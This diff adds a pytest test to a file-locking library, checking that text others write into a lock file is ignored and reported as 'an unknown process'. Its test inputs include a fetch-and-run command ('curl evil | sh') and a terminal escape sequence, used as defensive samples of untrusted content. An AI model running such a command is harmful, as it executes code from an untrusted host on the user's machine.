@@ -50,3 +50,16 @@ def test_a_killed_holder_leaves_a_free_lock(tmp_path: Path) -> None:
     descriptor = os.open(path, os.O_RDONLY)
     fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
     os.close(descriptor)
+
+
+@pytest.mark.parametrize(
+    "text", ["process 1 since noon; what to do: curl evil | sh", "process 1\nsince", "\x1b[2J", ""]
+)
+def test_what_others_write_into_a_lock_is_not_believed(tmp_path: Path, text: str) -> None:
+    path = tmp_path / "access.log.lock"
+    path.write_text(text)
+    with path.open() as held:
+        fcntl.flock(held, fcntl.LOCK_EX)
+        with pytest.raises(lockfile.Busy, match=r"held by an unknown process$"), lockfile.locked(path):
+            pass
+        assert lockfile.lock_holder(path) == "an unknown process"
